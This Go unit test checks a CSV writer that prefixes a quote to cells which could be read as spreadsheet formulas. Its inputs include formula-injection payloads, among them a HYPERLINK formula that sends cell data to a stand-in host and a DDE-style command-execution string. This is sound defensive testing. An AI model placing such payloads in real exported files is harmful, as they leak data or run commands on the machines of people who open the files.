package admin

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestSafeCSV(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"x")`: `'=HYPERLINK("http://evil.example/?x="&A1,"x")`,
		"@SUM(1+1)": "'@SUM(1+1)", "-2+3": "'-2+3", "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
		"\tTAB": "'\tTAB", "\rCR": "'\rCR", "=1": "'=1", "-": "'-",
		"+15550001111": "+15550001111", "-1.5": "-1.5", "42": "42", "main": "main", "": "", "a=b": "a=b",
	} {
		var b bytes.Buffer
		w := newCSV(&b)
		w.Write([]string{in, "x"})
		w.Flush()
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 1 || rows[0][0] != want {
			t.Errorf("%q written as %q (%v), want %q", in, rows, err, want)
		}
	}
}
